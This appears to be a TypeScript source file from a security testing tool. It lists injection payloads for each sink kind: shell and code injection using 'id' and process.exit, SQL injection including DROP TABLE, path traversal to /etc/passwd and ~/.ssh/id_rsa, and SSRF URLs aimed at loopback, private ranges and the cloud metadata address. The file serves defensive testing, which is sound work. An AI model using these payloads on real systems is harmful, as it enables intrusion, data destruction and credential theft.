import type { SinkKind } from "../../../models/kinds.js";
import type { SinkRow } from "../../../models/model.js";

/** One hostile text. `{}` stands for a harmless one, `[field]` for the field that it is compared with in a query. */
export interface Attack {
  readonly text: string;
  /** Texts that it may turn into on the way: by them it is recognised. */
  readonly also?: readonly string[];
  /** Nothing of it may be left in what it turns into: each unknown condition may be about it. */
  readonly fades?: true;
  /** A folder that the program holds the input against, and in which it lies: being there is asked for. */
  readonly within?: string;
  /** It is told only where no clearer one passes, so that it is not tried first elsewhere. */
  readonly isLast?: true;
  /** For calls that take this alone. */
  readonly takes?: SinkRow["takes"];
  /** What it was made from, where a harmless text was put into it. */
  readonly of?: string;
}

const all = (...texts: readonly string[]): readonly Attack[] => texts.map((text) => ({ text }));

const LOOPBACK = ["127.0.0.1"] as const;

/** Hostile program texts in the languages of other programs than JavaScript's, by what the program is called. */
export const CODE_ATTACKS: readonly { readonly program: RegExp; readonly attacks: readonly Attack[] }[] = [
  { program: /\b(?:python|pypy)[\d.]*\b/, attacks: all("exit()", "os;os.abort()", "{};exit()", "{}');__import__('os').system('id');('", "{}'+str(__import__('os').system('id'))+'", '{}"+str(__import__("os").system("id"))+"', '{}");__import__("os").system("id");("') },
  { program: /\bosascript\b/, attacks: all('{}" & (do shell script "id") & "', '{}\\" & (do shell script "id") & "', '{}\\" & (system info) --', 'do shell script "id"') },
  { program: /\b(?:ruby|perl|php)\b/, attacks: all("exit()", "{};exit()", "{}';system('id');'", '{}";system("id");"', "{}');system('id');('", '{}");system("id");("', "#{system('id')}", "@{[system('id')]}") },
];

/** Hostile texts of each kind of sink, the likeliest first. */
export const ATTACKS: Readonly<Partial<Record<SinkKind, readonly Attack[]>>> = {
  shell: [...all("{};id", "{}$(id)", "{}\nid", "{}`id`"), { text: "{}$(id)/../{}", isLast: true }, ...all("{}';id;'", '{}";id;"', "{}|id", "{}&&id", "{}&id", "$(id)", "{}\\';id;'", '{}\\";id;"', "{} ;id #", "{}\rid", "id")],
  program: all("/tmp/evil", "sh", "../evil"),
  arguments: all("--{}", "-{}"),
  // what ends a transaction ends one that only reads, too
  sql: [{ text: "SELECT 1; COMMIT; DROP TABLE t --", takes: "transactions" }, ...["{}' OR [field] != '", "{}') OR ([field] != '", "{}' AND [field] != '"].map((text): Attack => ({ text, takes: "soql" })), ...all(
    "{}' OR '1'='1", "{} OR 1=1", '{}" OR "1"="1', "{}; DROP TABLE t --", "{} WHERE 1=1 --", "{} SET a = 1 --", "{} VALUES (1); DROP TABLE t --", '{}" WHERE 1=1 --', "{}` WHERE 1=1 --", "{} UNION SELECT 1 --", "{}'; DROP TABLE t; --", "{}`; DROP TABLE t; --", "{}]; DROP TABLE t; --",
    '{}"; DROP TABLE t; --', "{}\\' OR 1=1 --", "1); DROP TABLE t; --", "1) OR (1=1",
    // statements of their own
    "SELECT 1; DROP TABLE t --", "DELETE FROM t", "INSERT INTO t VALUES (1); DROP TABLE t --", "UPDATE t SET a = 1; DROP TABLE t --", "CREATE TABLE t (a INT); DROP TABLE t --",
    "ALTER TABLE t ADD a INT; DROP TABLE t --", "SELECT * FROM {} WHERE 1=1; DROP TABLE t --", "{} UNION SELECT 1", "1 OR 1=1",
  )],
  code: [{ text: "delete [SELECT Id FROM Account];", takes: "apex" }, ...all("{};process.exit()", "{}');process.exit();('", '{}");process.exit();("', "{}`;process.exit();`", "{}${process.exit()}", "process.exit()", "{}'+process.exit()+'", '{}"+process.exit()+"', "{}\nprocess.exit()", "{})||process.exit()||(1", "{}\\');process.exit();//")],
  template: all("{{constructor.constructor('return process')()}}", "<%= process.exit() %>", "${process.exit()}", "#{process.exit()}"),
  script: all("{};return true", "{}'||'1'=='1", '{}"||"1"=="1', "function(){return true}"),
  module: all("/tmp/evil.js", "../../../../tmp/evil.js", "{}/../../../../tmp/evil.js"),
  path: [...all("../../../../../../../../etc/passwd", "/etc/passwd", "../../../../../../../../tmp/evil", "/tmp/evil", "../../../../../../../../tmp/evil/file"), { text: "~/.ssh/id_rsa", also: ["id_rsa"] }, ...all(
    "{}/../../../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//....//....//....//....//etc/passwd", "..\\..\\..\\..\\..\\etc\\passwd"), { text: "..", fades: true }, ...all("file:///etc/passwd", "//etc/passwd", "/etc/passwd\0{}",
    // a backslash makes folders of one name where the check takes it for a separator, and is a character of that name to the file system
    "a\\b\\c\\d\\e\\f\\g\\h/../../../../../../../../etc/passwd",
    // what is taken out behind a check joins what stood round it
    ".\n./.\n./.\n./.\n./.\n./.\n./etc/passwd", ".\0./.\0./.\0./.\0./.\0./.\0./etc/passwd", ". ./. ./. ./. ./. ./. ./etc/passwd",
  )],
  segment: [...all("../../../{}", "{}/../../../.."), { text: "..", fades: true }, ...all("../{}", "..%2f..%2f..%2f{}", "%2e%2e/%2e%2e/%2e%2e/{}", "..\\..\\..\\{}", "./.././../{}")],
  url: [
    { text: "http://127.0.0.1/" }, { text: "http://169.254.169.254/" }, { text: "http://localhost/", also: LOOPBACK }, { text: "https://127.0.0.1/" }, { text: "http://[::1]/" },
    { text: "http://[::ffff:127.0.0.1]/", also: ["::ffff:7f00:1", "7f00:1"] }, { text: "http://2130706433/", also: LOOPBACK }, { text: "http://0x7f.1/", also: LOOPBACK }, { text: "http://127.1/", also: LOOPBACK },
    { text: "http://0177.0.0.1/", also: LOOPBACK }, { text: "http://127.0.0.\n1/", also: LOOPBACK }, { text: "http://localhost./", also: LOOPBACK }, { text: "http://0.0.0.0/" }, { text: "http://127.0.0.1.nip.io/" }, { text: "https://127.0.0.1.nip.io/" }, { text: "http://example.com@127.0.0.1/" }, { text: "http://[fd00::1]/" }, { text: "http://10.0.0.1/" },
    { text: "https://[::ffff:127.0.0.1]/", also: ["::ffff:7f00:1", "7f00:1"] }, { text: "https://169.254.169.254/" }, { text: "file:///etc/passwd" }, { text: "//127.0.0.1/" }, { text: "127.0.0.1/" }, { text: ".evil.example/" }, { text: "@127.0.0.1/" },
    { text: "http://192.168.0.1/" }, { text: "http://172.16.0.1/" }, { text: "http://172.31.255.1/" }, { text: "http://169.254.1.1/" }, { text: "http://127.0.0.2/" }, { text: "http://10.255.0.1/" }, { text: "http://[::]/" }, { text: "http://[fc00::1]/" },
    { text: "http://[::ffff:169.254.169.254]/", also: ["::ffff:a9fe:a9fe", "a9fe"] }, { text: "http://[::ffff:10.0.0.1]/", also: ["::ffff:a00:1", "a00"] },
    { text: "http://10.0.0.1.nip.io/" }, { text: "http://169.254.169.254.nip.io/" }, { text: "{}@127.0.0.1" }, { text: "127.0.0.1" }, { text: "evil.example/{}" }, { text: "https://evil.example/" }, { text: "evil.example#" },
  ],
};
